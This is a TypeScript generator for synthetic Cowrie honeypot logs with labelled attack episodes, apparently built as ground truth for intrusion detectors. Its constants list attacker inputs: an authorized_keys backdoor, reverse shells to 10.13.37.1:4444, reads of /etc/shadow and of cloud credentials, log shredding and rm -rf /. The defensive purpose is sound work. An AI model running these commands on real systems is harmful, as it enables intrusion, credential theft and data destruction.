/**
 * A synthetic Cowrie 2.x JSON log with labelled attack episodes, reproducible from a seed.
 *
 * Detectors need ground truth that real honeypot logs do not carry, at volumes the real
 * reference log (sensor-aws-2026-03: 5,058 events, 922 sessions, 137 source IPs over 9 days)
 * does not reach. This generator imitates that sensor and marks where attacks were injected.
 *
 * Background traffic. Visits - one source IP running one bot (a Go credential sprayer, a
 * banner scanner, a scripted client) for one or more sessions a few seconds apart - arrive as
 * a Poisson process, so traffic is bursty the way a real sensor's is. Each session follows one
 * of the event sequences seen on the reference sensor (connect, version, kex, one failed login,
 * closed; or a login, `uname`, tty log, closed; ...), with its field order, messages,
 * client versions and hassh fingerprints, credentials and commands. Now and then attackers'
 * text holds quotes, commas, `#`, `<script>`, Slack `<!channel>`, newlines and control
 * characters, as on a real sensor; `JSON.stringify` keeps every line valid JSON.
 *
 * Attack episodes. Six kinds (ATTACK_TYPES) are injected after a warm-up of 20% of the lines,
 * one at a time, in slots spread evenly over the rest of the log: with at least 5,000 lines
 * every kind appears at least once, and once more per further 50,000 lines; below 5,000 lines
 * only as many as fit (none below about 700). An episode that could not finish before the
 * last line - a high `rate` makes episodes span many background lines - is left out.
 * Episodes use source IPs that background traffic never uses, so every line of an episode
 * carries one of its label's `src_ips`.
 *
 * Events of concurrent sessions are merged by time through a min-heap, so lines are in
 * timestamp order and only sessions in flight are held in memory. The log stops after exactly
 * `events` lines; sessions still open at that point are cut off as a live log would be.
 *
 *     const generator = new CowrieLogGenerator({ events: 20000, seed: "42" });
 *     for (const { line, lineNumber, episode } of generator) {
 *       // line: one JSON object; episode: index into generator.labels, or undefined
 *     }
 *     generator.labels;  // [{ type: "brute-force", src_ips: [...], first_line: 5113, ... }, ...]
 */
import { createHash } from "node:crypto";
import { epochMsToCowrieTimestamp } from "../../../ingest/cowrie-timestamp";
import { SeededRandom } from "../../../stats/seeded-random";
import { ATTACK_TYPES, type AttackEpisodeLabel, type AttackType } from "../../../domain/attack-types";

export interface GeneratedLine {
  /** One Cowrie event as JSON, without the newline. */
  line: string;
  /** 1-based. */
  lineNumber: number;
  /** Index into `labels` of the episode this line belongs to; undefined for background. */
  episode?: number;
}

export interface CowrieLogGeneratorOptions {
  /** Exact number of lines to produce. */
  events: number;
  seed: string | number;
  /** Epoch milliseconds of the log's beginning; default 2026-03-18T00:00:00Z. */
  startMs?: number;
  /** Mean background events per second; default the reference sensor's. */
  rate?: number;
}

const MICROS_PER_SECOND = 1_000_000;

// The reference sensor: 5,058 events from 922 sessions in 221.6 hours.
const REFERENCE_EVENTS_PER_SECOND = 5058 / 797_843;
const REFERENCE_EVENTS_PER_SESSION = 5058 / 922;

const WARM_UP_FRACTION = 0.2;
const EPISODE_AREA_FRACTION = 0.72;
const FULL_EPISODE_SET_MIN_EVENTS = 5000;
const EVENTS_PER_EPISODE_ROUND = 50_000;
/** Below this many lines per slot an episode is not worth injecting. */
const MIN_EPISODE_SLOT = 500;
/** Share of a slot an episode's own events may fill; the rest is background around it. */
const EPISODE_BUDGET_FRACTION = 0.45;
/** A bot that connected once tends to come back; this many addresses are remembered. */
const RECURRING_SOURCES = 2048;
const MAX_SESSIONS_PER_VISIT = 200;
/** ttylog digests remembered for Cowrie's `duplicate` flag; bounded so a long run stays small. */
const REMEMBERED_TTYLOGS = 4096;

// Source addresses. Half come from hosting ranges that dominate honeypot logs (the reference
// sensor's busiest sources are DigitalOcean, Tencent and Alibaba addresses), half from
// anywhere in the public IPv4 space.
const HOSTING_PREFIXES = [
  "137.184", "147.182", "167.71", "192.241", "142.93", "67.205", "134.199", "104.248",
  "159.65", "165.22", "101.126", "45.84", "183.94", "139.59", "106.13", "120.48", "222.73",
  "14.18", "211.198", "42.112", "110.185", "218.92", "61.177", "43.134", "170.64", "80.94",
  "185.220", "193.32", "45.148", "92.118", "159.223", "188.166", "47.79", "115.231",
];

/** First octets that are never public unicast: 0/8, 10/8, 127/8, 224/4 multicast, 240/4. */
function isReservedFirstOctet(a: number): boolean {
  return a === 0 || a === 10 || a === 127 || a >= 224;
}

/** RFC 6890 special-purpose ranges beyond the first octet. */
function isReservedPrefix(a: number, b: number, c: number): boolean {
  return (
    (a === 100 && b >= 64 && b <= 127) ||
    (a === 169 && b === 254) ||
    (a === 172 && b >= 16 && b <= 31) ||
    (a === 192 && b === 0 && (c === 0 || c === 2)) ||
    (a === 192 && b === 88 && c === 99) ||
    (a === 192 && b === 168) ||
    (a === 198 && (b === 18 || b === 19)) ||
    (a === 198 && b === 51 && c === 100) ||
    (a === 203 && b === 0 && c === 113)
  );
}

// Credentials, weighted roughly as on the reference sensor (root in 40% of attempts,
// 123456 the commonest password).
const USERNAMES: readonly (readonly [string, number])[] = [
  ["root", 278], ["admin", 35], ["ubuntu", 13], ["user", 10], ["deploy", 10], ["postgres", 8],
  ["user1", 7], ["minecraft", 6], ["test", 5], ["jenkins", 5], ["ec2-user", 5], ["git", 5],
  ["steam", 5], ["frappe", 5], ["debian", 4], ["oracle", 4], ["webuser", 4], ["app", 4],
  ["huawei", 4], ["pi", 4], ["hadoop", 3], ["ubnt", 3], ["zabbix", 3], ["mysql", 3],
  ["sysadmin", 3], ["testuser", 3], ["gitlab", 3], ["guest", 3], ["support", 3], ["ftpuser", 3],
  ["tomcat", 2], ["nagios", 2], ["elastic", 2], ["centos", 2], ["vagrant", 2], ["docker", 2],
  ["solana", 2], ["sol", 2], ["validator", 2], ["node", 2], ["dev", 2], ["www-data", 1],
];

const PASSWORDS: readonly (readonly [string, number])[] = [
  ["123456", 69], ["admin", 16], ["123", 13], ["password", 9], ["12345678", 9], ["ubuntu", 9],
  ["123456789", 8], ["12345", 7], ["1", 7], ["1234", 6], ["Huawei12", 6], ["root", 6],
  ["1111", 5], ["qwerty", 4], ["111111", 4], ["admin123", 4], ["qwe123", 4], ["Aa123456", 4],
  ["linux", 4], ["123123", 3], ["1234567", 3], ["qwer1234", 3], ["Pass@123", 3], ["102030", 3],
  ["1qaz@WSX", 3], ["admin1234", 3], ["P@ssw0rd", 3], ["abc123", 2], ["000000", 2], ["test", 2],
  ["passw0rd", 2], ["root123", 2], ["toor", 2], ["changeme", 2], ["raspberry", 2], ["1q2w3e4r", 2],
  ["welcome", 1], ["letmein", 1], ["Admin@123", 1], ["master", 1], ["hola", 1], ["peter", 1],
];

/**
 * Text attackers really send, aimed at whatever later displays or stores it: SQL and shell
 * injection, HTML, Slack mentions, InfluxDB line protocol, MQTT wildcards, control characters.
 */
const HOSTILE_TEXT = [
  '"; DROP TABLE users; --',
  "admin' OR '1'='1",
  "root,admin,guest",
  "#!/bin/sh",
  "<script>alert(document.cookie)</script>",
  "<!channel> root access for sale",
  "<!here> <@U024BE7LH>",
  "pass\nword",
  "first\r\nsecond",
  "tab\there",
  "\u001b[31mred\u001b[0m",
  "nul\u0000byte",
  "$(reboot)",
  "`id`",
  "a+b/c d=e,f",
  "cpu,host=x value=1 1700000000",
  "honeyflow/alerts/#",
  "+/+/#",
  "*bold* _it_ ~strike~ `code`",
  "\\\\server\\share",
  "\u{1D563}\u{1D560}\u{1D560}\u{1D565}",
  "пароль",
  "密码123",
];

const HOSTILE_COMMANDS = [
  'echo "<script>alert(1)</script>" > /var/www/html/index.html',
  "echo '<!channel> pwned, #1 \"root\" access'",
  "printf 'a,b\\n'\necho second line",
  'curl -d "k=v,x=y" "http://example.invalid/?q=<img src=x onerror=alert(1)>#frag"',
  "echo -e '\\x1b[2J\\x07'",
  "echo \u001b]0;owned\u0007",
  "cat <<'EOF' > /tmp/x\n#!/bin/sh\nrm -rf / --no-preserve-root\nEOF",
];

// Commands of the bots seen on the reference sensor; each entry is one session's input.
const UNAME_RECON =
  "export PATH=/usr/local/sbin:/usr/local/bin:/usr/sbin:/usr/bin:/sbin:/bin:$PATH; " +
  "uname=$(uname -s -v -n -m 2>/dev/null); arch=$(uname -m 2>/dev/null); " +
  "uptime=$(cat /proc/uptime 2>/dev/null | cut -d. -f1); " +
  'cpus=$( (nproc 2>/dev/null || /usr/bin/nproc 2>/dev/null || grep -c "^processor" /proc/cpuinfo 2>/dev/null) | head -1); ' +
  'echo "UNAME:$uname"; echo "ARCH:$arch"; echo "UPTIME:$uptime"; echo "CPUS:$cpus"';
const SMS_AND_TELEGRAM_LOOKUP =
  "ls -la ~/.local/share/TelegramDesktop/tdata /home/*/.local/share/TelegramDesktop/tdata " +
  "/dev/ttyGSM* /dev/ttyUSB-mod* /var/spool/sms/* /var/log/smsd.log /etc/smsd.conf* " +
  "/usr/bin/qmuxd /var/qmux_connect_socket /etc/config/simman /dev/modem* /var/config/sms/*";
const AUTHORIZED_KEYS_BACKDOOR =
  'cd ~ && rm -rf .ssh && mkdir .ssh && echo "ssh-rsa AAAAB3NzaC1yc2EAAAABJQAAAQEArDp4cun2lhr4KUhBGE7VvAcwdli2a8dbnrTOrbMz1+5O73fcBOx8NVbUT0bUanUV9tJ2/9p7+vD0EpZ3Tz/+0kX34uAx1RV/75GVOmNx+9EuWOnvNoaJe0QXxziIg9eLBHpgLMuakb5+BgTFB+rKJAw9u9FSTDengvS8hX1kNFS4Mjux0hJOK8rvcEmPecjdySYMb66nylAKGwCEE6WEQHmd1mUPgHwGQ0hWCwsQk13yCGPK5w6hYp5zYkFnvlC8hGmd4Ww+u97k6pfTGTUbJk14ujvcD9iUKQTTWYYjIIu5PmUux5bsZ0R4WFwdIe6+i6rBLAsPKgAySVKPRK+oRw== mdrfckr">>.ssh/authorized_keys && chmod -R go= ~/.ssh && cd ~';

const BOT_COMMAND_SCRIPTS: readonly (readonly [readonly string[], number])[] = [
  [["uname -s -v -n -r -m"], 103],
  [['echo -e "\\x6F\\x6B"'], 94],
  [[UNAME_RECON, "uname -s -v -n -m 2 > /dev/null", "uname -m 2 > /dev/null", "cat /proc/uptime 2 > /dev/null | cut -d. -f1"], 13],
  [[AUTHORIZED_KEYS_BACKDOOR], 6],
  [["/ip cloud print", "ifconfig", "uname -a", "cat /proc/cpuinfo", "ps | grep '[Mm]iner'", "ps -ef | grep '[Mm]iner'", SMS_AND_TELEGRAM_LOOKUP, "locate D877F783D5D3EF8Cs", "echo Hi | cat -n"], 3],
  [["grep -c ^processor /proc/cpuinfo"], 4],
  [["nproc 2>/dev/null || (grep -c '^processor' /proc/cpuinfo 2>/dev/null) || echo 0", "grep -c ^processor /proc/cpuinfo 2 > /dev/null"], 1],
];

const TYPICAL_COMMANDS = [
  "uname -a", "cat /proc/cpuinfo", "whoami", "pwd", "hostname", "ls -la /", "ps aux | head -10",
  "uptime", "free -m", "w", "id", "cat /etc/issue", "grep -c ^processor /proc/cpuinfo",
  "netstat -tulpn | head -10", "mount | head -5", "history | tail -5", "ssh -V", "df -h",
  "lscpu", "nproc", "cat /etc/os-release", "crontab -l", "ls -la ~/.ssh", "cd /tmp", "ls",
  "cat /proc/cpuinfo | grep name | wc -l", "free -m | grep Mem | awk '{print $2}'",
  "uname -m 2>/dev/null || echo unknown", "last | head -5", "ifconfig", "top -bn1 | head -5",
];

/** Commands that are rare on a honeypot: privilege escalation, pivoting, anti-forensics. */
const RARE_COMMANDS = [
  "python3 -c 'import pty; pty.spawn(\"/bin/bash\")'",
  "nc -lvnp 4444 -e /bin/sh",
  "socat TCP-LISTEN:1337,reuseaddr,fork EXEC:/bin/bash,pty,stderr",
  "dd if=/dev/sda bs=512 count=1 | xxd | head",
  "iptables -F && iptables -X && iptables -P INPUT ACCEPT",
  "history -c && unset HISTFILE && export HISTSIZE=0",
  "cat /etc/shadow",
  "find / -perm -4000 -type f 2>/dev/null",
  "gcc -static -o /dev/shm/.x /dev/shm/.x.c",
  "insmod /dev/shm/diamorphine.ko",
  "echo 0 > /proc/sys/kernel/randomize_va_space",
  "tcpdump -i any -w /dev/shm/cap.pcap port 22",
  "nmap -sS -p- 10.0.0.0/24",
  "openssl enc -aes-256-cbc -salt -in /etc/passwd -out /dev/shm/p.enc -k x",
  "mkfifo /tmp/f; cat /tmp/f | /bin/sh -i 2>&1 | nc 10.13.37.1 4444 > /tmp/f",
  "docker run -v /:/mnt --rm -it alpine chroot /mnt sh",
  "kubectl get secrets --all-namespaces -o yaml",
  "cat ~/.aws/credentials ~/.kube/config 2>/dev/null",
  "strace -f -p 1 -e trace=read",
  "sqlite3 ~/.mozilla/firefox/*.default/cookies.sqlite .dump",
  "chattr +i /etc/passwd /etc/shadow",
  "ld.so --preload /dev/shm/libhide.so /bin/ls",
  "echo 'kernel.modules_disabled=1' >> /etc/sysctl.conf",
  "shred -u -z /var/log/wtmp /var/log/btmp /var/log/lastlog",
  "systemctl disable --now auditd apparmor",
  "awk 'BEGIN{s=\"/inet/tcp/0/10.13.37.1/4444\";while(1){printf \"> \" |& s;s |& getline c;while((c |& getline)>0)print |& s;close(c)}}'",
];

/** First words that Cowrie's emulated shell does not know, so it logs `command.failed`. */
const UNKNOWN_TO_COWRIE = new Set([
  "/ip", "lscpu", "nproc", "locate", "python3", "nc", "socat", "gcc", "insmod", "tcpdump",
  "nmap", "openssl", "docker", "kubectl", "strace", "sqlite3", "chattr", "ld.so", "shred",
  "systemctl", "mkfifo", "awk", "xxd", "base64",
]);

const SCANNER_BANNERS: readonly (readonly [string, number])[] = [
  ["GET / HTTP/1.1", 15],
  ["", 9],
  ["SSH-2.0-libssh2_1.11.1", 4],
  ["SSH-2.0-Go", 3],
  ["GET /favicon.ico HTTP/1.1", 3],
  ["SSH-2.0-libssh_0.9.6", 2],
  ["SSH-2.0-OpenSSH_8.2p1 Ubuntu-4ubuntu0.5", 2],
  ["\u0016\u0003\u0001\u0000{\u0001\u0000\u0000w\u0003\u0003", 7],
];

const TUNNEL_PROBE_TARGETS: readonly (readonly [string, number])[] = [
  ["google.com", 443], ["ifconfig.me", 80], ["api.ipify.org", 443], ["1.1.1.1", 53],
  ["www.bing.com", 443], ["ip-api.com", 80],
];

/** Ports a tunnel scan tries first; the rest of its ports are random. */
const SERVICE_PORTS = [
  21, 22, 23, 25, 53, 80, 110, 111, 135, 139, 143, 443, 445, 993, 995, 1433, 1521, 2049,
  2375, 3306, 3389, 5432, 5900, 5985, 6379, 8080, 8443, 9200, 11211, 27017,
];

const MALWARE_NAMES = ["x86_64", "bins.sh", "kinsing", "xmrig", ".sysd", "tsunami", "mips", "arm7", "dota3.tar.gz", "kswapd0"];
/** Reserved example domains (RFC 2606), so that synthetic logs never accuse a real host. */
const MALWARE_HOSTS = ["cdn-update.example", "repo.example.net", "dl.example.org"];

/** Real upload digests from the reference sensor (e3b0... is SHA-256 of an empty file). */
const UPLOADED_SSHD_DIGESTS = [
  "94f2e4d8d4436874785cd14e6e6d403507b8750852f7f2040352069a75da4c00",
  "e3b0c44298fc1c149afbf4c8996fb92427ae41e4649b934ca495991b7852b855",
  "f81c3b8ec666088d0fa14068eb07f948e0d78d481e2f0e88218d02f65bdcafbb",
  "b9d9d2dc7e26734d4932d3994051b3b7b40cdbab93c79f3ef301c35d815c5d68",
];

const FIRST_NAMES = ["james", "mary", "john", "linda", "michael", "sarah", "david", "laura", "kevin", "anna", "marco", "giulia", "lukas", "sofia", "pierre", "yuki", "chen", "olga", "ahmed", "fatima"];
const LAST_NAMES = ["smith", "jones", "brown", "rossi", "muller", "martin", "garcia", "kowalski", "tanaka", "wang", "ivanova", "haddad", "silva", "nguyen", "schmidt", "bianchi"];
const MAIL_DOMAINS = ["gmail.com", "yahoo.com", "outlook.com", "mail.ru", "web.de", "libero.it"];
const PASSWORD_WORDS = ["Summer", "Winter", "Monkey", "Dragon", "Sunshine", "Football", "Princess", "Shadow", "Welcome", "Liverpool", "Juventus", "Iloveyou", "Freedom", "Qwerty", "Secret"];
const PASSWORD_SUFFIXES = ["", "1", "12", "123", "!", "2023", "2024", "2025", "@123", "#1", "1!", "69", "007"];

// SSH clients as the reference sensor saw them: banner, hassh and the algorithm lists that
// `cowrie.client.kex` carries (hassh is the MD5 of "kex;enc;mac;comp").
interface ClientFingerprint {
  readonly version: string;
  /** The fields of `cowrie.client.kex` before `message`, in Cowrie's order. */
  readonly kexFields: Readonly<Record<string, unknown>>;
  readonly hassh: string;
}

function clientFingerprint(spec: {
  version: string;
  hassh: string;
  kex: string;
  enc: string;
  mac: string;
  comp: string;
  keys: string;
}): ClientFingerprint {
  const { version, hassh, kex, enc, mac, comp, keys } = spec;
  return {
    version,
    hassh,
    kexFields: {
      hassh,
      hasshAlgorithms: `${kex};${enc};${mac};${comp}`,
      kexAlgs: kex.split(","),
      keyAlgs: keys.split(","),
      encCS: enc.split(","),
      macCS: mac.split(","),
      compCS: comp.split(","),
      langCS: [""],
    },
  };
}

const GO_CURVE25519 = clientFingerprint({
  version: "SSH-2.0-Go",
  hassh: "0a07365cc01fa9fc82608ba4019af499",
  kex: "curve25519-sha256,curve25519-sha256@libssh.org,ecdh-sha2-nistp256,ecdh-sha2-nistp384,ecdh-sha2-nistp521,diffie-hellman-group14-sha256,diffie-hellman-group14-sha1,ext-info-c,kex-strict-c-v00@openssh.com",
  enc: "aes128-gcm@openssh.com,aes256-gcm@openssh.com,chacha20-poly1305@openssh.com,aes128-ctr,aes192-ctr,aes256-ctr",
  mac: "hmac-sha2-256-etm@openssh.com,hmac-sha2-512-etm@openssh.com,hmac-sha2-256,hmac-sha2-512,hmac-sha1,hmac-sha1-96",
  comp: "none",
  keys: "rsa-sha2-256-cert-v01@openssh.com,rsa-sha2-512-cert-v01@openssh.com,ssh-rsa-cert-v01@openssh.com,ssh-dss-cert-v01@openssh.com,ecdsa-sha2-nistp256-cert-v01@openssh.com,ecdsa-sha2-nistp384-cert-v01@openssh.com,ecdsa-sha2-nistp521-cert-v01@openssh.com,ssh-ed25519-cert-v01@openssh.com,ecdsa-sha2-nistp256,ecdsa-sha2-nistp384,ecdsa-sha2-nistp521,rsa-sha2-256,rsa-sha2-512,ssh-rsa,ssh-dss,ssh-ed25519",
});
const GO_LEGACY_CIPHERS = clientFingerprint({
  version: "SSH-2.0-Go",
  hassh: "01ca35584ad5a1b66cf6a9846b5b2821",
  kex: "curve25519-sha256@libssh.org,ecdh-sha2-nistp256,ecdh-sha2-nistp384,ecdh-sha2-nistp521,diffie-hellman-group14-sha1",
  enc: "aes128-ctr,aes192-ctr,aes256-ctr,aes128-gcm@openssh.com,chacha20-poly1305@openssh.com,arcfour256,arcfour128,arcfour,aes128-cbc,3des-cbc,aes128-gcm@openssh.com,aes128-cbc",
  mac: "hmac-sha2-256-etm@openssh.com,hmac-sha2-256,hmac-sha1,hmac-sha1-96",
  comp: "none",
  keys: "ssh-rsa-cert-v01@openssh.com,ssh-dss-cert-v01@openssh.com,ecdsa-sha2-nistp256-cert-v01@openssh.com,ecdsa-sha2-nistp384-cert-v01@openssh.com,ecdsa-sha2-nistp521-cert-v01@openssh.com,ssh-ed25519-cert-v01@openssh.com,ecdsa-sha2-nistp256,ecdsa-sha2-nistp384,ecdsa-sha2-nistp521,ssh-rsa,ssh-dss,ssh-ed25519",
});
const GO_GROUP_EXCHANGE = clientFingerprint({
  version: "SSH-2.0-Go",
  hassh: "2ec37a7cc8daf20b10e1ad6221061ca5",
  kex: "curve25519-sha256@libssh.org,ecdh-sha2-nistp256,ecdh-sha2-nistp384,ecdh-sha2-nistp521,diffie-hellman-group-exchange-sha256,diffie-hellman-group-exchange-sha1,diffie-hellman-group16-sha512,diffie-hellman-group14-sha256,diffie-hellman-group14-sha1,diffie-hellman-group1-sha1,ext-info-c,kex-strict-c-v00@openssh.com",
  enc: "aes128-ctr,aes192-ctr,aes256-ctr,aes128-gcm@openssh.com,aes256-gcm@openssh.com,chacha20-poly1305@openssh.com,arcfour256,arcfour128,arcfour,3des-cbc,aes128-cbc",
  mac: "hmac-sha2-256-etm@openssh.com,hmac-sha2-512-etm@openssh.com,hmac-sha2-256,hmac-sha2-512,hmac-sha1,hmac-sha1-96",
  comp: "none",
  keys: "ssh-rsa,rsa-sha2-256,rsa-sha2-512,ssh-dss,ecdsa-sha2-nistp256,ecdsa-sha2-nistp384,ecdsa-sha2-nistp521,ssh-ed25519",
});
const GO_MLKEM = clientFingerprint({
  version: "SSH-2.0-Go",
  hassh: "16443846184eafde36765c9bab2f4397",
  kex: "mlkem768x25519-sha256,curve25519-sha256,curve25519-sha256@libssh.org,ecdh-sha2-nistp256,ecdh-sha2-nistp384,ecdh-sha2-nistp521,diffie-hellman-group14-sha256,diffie-hellman-group14-sha1,ext-info-c,kex-strict-c-v00@openssh.com",
  enc: "aes128-gcm@openssh.com,aes256-gcm@openssh.com,chacha20-poly1305@openssh.com,aes128-ctr,aes192-ctr,aes256-ctr",
  mac: "hmac-sha2-256-etm@openssh.com,hmac-sha2-512-etm@openssh.com,hmac-sha2-256,hmac-sha2-512,hmac-sha1,hmac-sha1-96",
  comp: "none",
  keys: "rsa-sha2-256-cert-v01@openssh.com,rsa-sha2-512-cert-v01@openssh.com,ssh-rsa-cert-v01@openssh.com,ssh-dss-cert-v01@openssh.com,ecdsa-sha2-nistp256-cert-v01@openssh.com,ecdsa-sha2-nistp384-cert-v01@openssh.com,ecdsa-sha2-nistp521-cert-v01@openssh.com,ssh-ed25519-cert-v01@openssh.com,ecdsa-sha2-nistp256,ecdsa-sha2-nistp384,ecdsa-sha2-nistp521,rsa-sha2-256,rsa-sha2-512,ssh-rsa,ssh-dss,ssh-ed25519",
});
const ZGRAB = clientFingerprint({
  version: "SSH-2.0-ZGrab ZGrab SSH Survey",
  hassh: "dd9bcf093c355da7000132131cb36fd0",
  kex: "diffie-hellman-group-exchange-sha256,diffie-hellman-group-exchange-sha1,diffie-hellman-group14-sha1,diffie-hellman-group1-sha1",
  enc: "aes128-ctr,aes192-ctr,aes256-ctr,arcfour256,arcfour128,aes128-gcm@openssh.com,aes256-gcm@openssh.com,chacha20-poly1305@openssh.com,aes128-cbc,3des-cbc,blowfish-cbc,cast128-cbc,aes192-cbc,aes256-cbc,arcfour,rijndael-cbc@lysator.liu.se",
  mac: "hmac-md5-etm@openssh.com,hmac-sha1-etm@openssh.com,umac-64-etm@openssh.com,umac-128-etm@openssh.com,hmac-sha2-256-etm@openssh.com,hmac-sha2-512-etm@openssh.com,hmac-ripemd160-etm@openssh.com,hmac-sha1-96-etm@openssh.com,hmac-md5-96-etm@openssh.com,hmac-md5,hmac-sha1,umac-64@openssh.com,umac-128@openssh.com,hmac-sha2-256,hmac-sha2-512,hmac-ripemd160,hmac-ripemd160@openssh.com,hmac-sha1-96,hmac-md5-96",
  comp: "none,zlib@openssh.com,zlib",
  keys: "ecdsa-sha2-nistp256-cert-v01@openssh.com,ecdsa-sha2-nistp384-cert-v01@openssh.com,ecdsa-sha2-nistp521-cert-v01@openssh.com,ecdsa-sha2-nistp256,ecdsa-sha2-nistp384,ecdsa-sha2-nistp521,ssh-ed25519-cert-v01@openssh.com,ssh-rsa-cert-v01@openssh.com,ssh-dss-cert-v01@openssh.com,ssh-rsa-cert-v00@openssh.com,ssh-dss-cert-v00@openssh.com,ssh-ed25519,ssh-rsa,ssh-dss",
});
const OPENSSH_KEYSCAN = clientFingerprint({
  version: "SSH-2.0-OpenSSH-keyscan",
  hassh: "a984ff804585fabe3cd08f4b3849024a",
  kex: "sntrup761x25519-sha512@openssh.com,curve25519-sha256,curve25519-sha256@libssh.org,ecdh-sha2-nistp256,ecdh-sha2-nistp384,ecdh-sha2-nistp521,diffie-hellman-group-exchange-sha256,diffie-hellman-group16-sha512,diffie-hellman-group18-sha512,diffie-hellman-group14-sha256",
  enc: "chacha20-poly1305@openssh.com,aes128-ctr,aes192-ctr,aes256-ctr,aes128-gcm@openssh.com,aes256-gcm@openssh.com",
  mac: "umac-64-etm@openssh.com,umac-128-etm@openssh.com,hmac-sha2-256-etm@openssh.com,hmac-sha2-512-etm@openssh.com,hmac-sha1-etm@openssh.com,umac-64@openssh.com,umac-128@openssh.com,hmac-sha2-256,hmac-sha2-512,hmac-sha1",
  comp: "none,zlib@openssh.com",
  keys: "sk-ssh-ed25519@openssh.com",
});
const PARAMIKO = clientFingerprint({
  version: "SSH-2.0-paramiko_2.9.2",
  hassh: "d6729b7f24428169e981ad4840063ca5",
  kex: "curve25519-sha256@libssh.org,ecdh-sha2-nistp256,ecdh-sha2-nistp384,ecdh-sha2-nistp521,diffie-hellman-group16-sha512,diffie-hellman-group-exchange-sha256,diffie-hellman-group14-sha256,diffie-hellman-group-exchange-sha1,diffie-hellman-group14-sha1,diffie-hellman-group1-sha1,ext-info-c",
  enc: "aes128-ctr,aes192-ctr,aes256-ctr,aes128-cbc,aes192-cbc,aes256-cbc,blowfish-cbc,3des-cbc",
  mac: "hmac-sha2-256,hmac-sha2-512,hmac-sha2-256-etm@openssh.com,hmac-sha2-512-etm@openssh.com,hmac-sha1,hmac-md5,hmac-sha1-96,hmac-md5-96",
  comp: "none",
  keys: "ssh-ed25519,ecdsa-sha2-nistp256,ecdsa-sha2-nistp384,ecdsa-sha2-nistp521,rsa-sha2-512,rsa-sha2-256,ssh-rsa,ssh-dss",
});
const LIBSSH2 = clientFingerprint({
  version: "SSH-2.0-libssh2_1.9.0",
  hassh: "1616c6d18e845e7a01168a44591f7a35",
  kex: "ecdh-sha2-nistp256,ecdh-sha2-nistp384,ecdh-sha2-nistp521,diffie-hellman-group-exchange-sha256,diffie-hellman-group-exchange-sha1,diffie-hellman-group14-sha1,diffie-hellman-group1-sha1",
  enc: "aes128-ctr,aes192-ctr,aes256-ctr,aes256-cbc,rijndael-cbc@lysator.liu.se,aes192-cbc,aes128-cbc,blowfish-cbc,arcfour128,arcfour,cast128-cbc,3des-cbc",
  mac: "hmac-sha2-256,hmac-sha2-512,hmac-sha1,hmac-sha1-96,hmac-md5,hmac-md5-96,hmac-ripemd160,hmac-ripemd160@openssh.com",
  comp: "none",
  keys: "ecdsa-sha2-nistp256,ecdsa-sha2-nistp384,ecdsa-sha2-nistp521,ssh-rsa,ssh-dss",
});
const LIBSSH = clientFingerprint({
  version: "SSH-2.0-libssh_0.7.4",
  hassh: "e37f354a101aff5871ba233aa82b84ec",
  kex: "curve25519-sha256@libssh.org,ecdh-sha2-nistp256,diffie-hellman-group14-sha1,diffie-hellman-group1-sha1",
  enc: "aes256-ctr,aes192-ctr,aes128-ctr,aes256-cbc,aes192-cbc,aes128-cbc,3des-cbc",
  mac: "hmac-sha2-256,hmac-sha2-512,hmac-sha1",
  comp: "none",
  keys: "ssh-ed25519,ecdsa-sha2-nistp256,ecdsa-sha2-nistp384,ecdsa-sha2-nistp521,ssh-rsa,ssh-dss",
});
const OPENSSH_8 = clientFingerprint({
  version: "SSH-2.0-OpenSSH_8.7",
  hassh: "cc6073fa2009ae6fc3e9874a2f3d7cee",
  kex: "curve25519-sha256,curve25519-sha256@libssh.org,ecdh-sha2-nistp256,ecdh-sha2-nistp384,ecdh-sha2-nistp521,diffie-hellman-group-exchange-sha256,diffie-hellman-group14-sha256,diffie-hellman-group16-sha512,diffie-hellman-group18-sha512,ext-info-c,kex-strict-c-v00@openssh.com",
  enc: "aes256-gcm@openssh.com,chacha20-poly1305@openssh.com,aes256-ctr,aes128-gcm@openssh.com,aes128-ctr",
  mac: "hmac-sha2-256-etm@openssh.com,hmac-sha1-etm@openssh.com,umac-128-etm@openssh.com,hmac-sha2-512-etm@openssh.com,hmac-sha2-256,hmac-sha1,umac-128@openssh.com,hmac-sha2-512",
  comp: "none,zlib@openssh.com,zlib",
  keys: "ssh-ed25519-cert-v01@openssh.com,ecdsa-sha2-nistp256-cert-v01@openssh.com,ecdsa-sha2-nistp384-cert-v01@openssh.com,ecdsa-sha2-nistp521-cert-v01@openssh.com,sk-ssh-ed25519-cert-v01@openssh.com,sk-ecdsa-sha2-nistp256-cert-v01@openssh.com,rsa-sha2-512-cert-v01@openssh.com,rsa-sha2-256-cert-v01@openssh.com,ssh-ed25519,ecdsa-sha2-nistp256,ecdsa-sha2-nistp384,ecdsa-sha2-nistp521,sk-ssh-ed25519@openssh.com,sk-ecdsa-sha2-nistp256@openssh.com,rsa-sha2-512,rsa-sha2-256",
});
const OPENSSH_9_UBUNTU = clientFingerprint({
  version: "SSH-2.0-OpenSSH_9.6p1 Ubuntu-3ubuntu13.14",
  hassh: "aae6b9604f6f3356543709a376d7f657",
  kex: "sntrup761x25519-sha512@openssh.com,curve25519-sha256,curve25519-sha256@libssh.org,ecdh-sha2-nistp256,ecdh-sha2-nistp384,ecdh-sha2-nistp521,diffie-hellman-group-exchange-sha256,diffie-hellman-group16-sha512,diffie-hellman-group18-sha512,diffie-hellman-group14-sha256,ext-info-c,kex-strict-c-v00@openssh.com",
  enc: "chacha20-poly1305@openssh.com,aes128-ctr,aes192-ctr,aes256-ctr,aes128-gcm@openssh.com,aes256-gcm@openssh.com",
  mac: "umac-64-etm@openssh.com,umac-128-etm@openssh.com,hmac-sha2-256-etm@openssh.com,hmac-sha2-512-etm@openssh.com,hmac-sha1-etm@openssh.com,umac-64@openssh.com,umac-128@openssh.com,hmac-sha2-256,hmac-sha2-512,hmac-sha1",
  comp: "none,zlib@openssh.com,zlib",
  keys: "ssh-ed25519-cert-v01@openssh.com,ecdsa-sha2-nistp256-cert-v01@openssh.com,ecdsa-sha2-nistp384-cert-v01@openssh.com,ecdsa-sha2-nistp521-cert-v01@openssh.com,sk-ssh-ed25519-cert-v01@openssh.com,sk-ecdsa-sha2-nistp256-cert-v01@openssh.com,rsa-sha2-512-cert-v01@openssh.com,rsa-sha2-256-cert-v01@openssh.com,ssh-ed25519,ecdsa-sha2-nistp256,ecdsa-sha2-nistp384,ecdsa-sha2-nistp521,sk-ssh-ed25519@openssh.com,sk-ecdsa-sha2-nistp256@openssh.com,rsa-sha2-512,rsa-sha2-256",
});
const OPENSSH_10 = clientFingerprint({
  version: "SSH-2.0-OpenSSH_10.0",
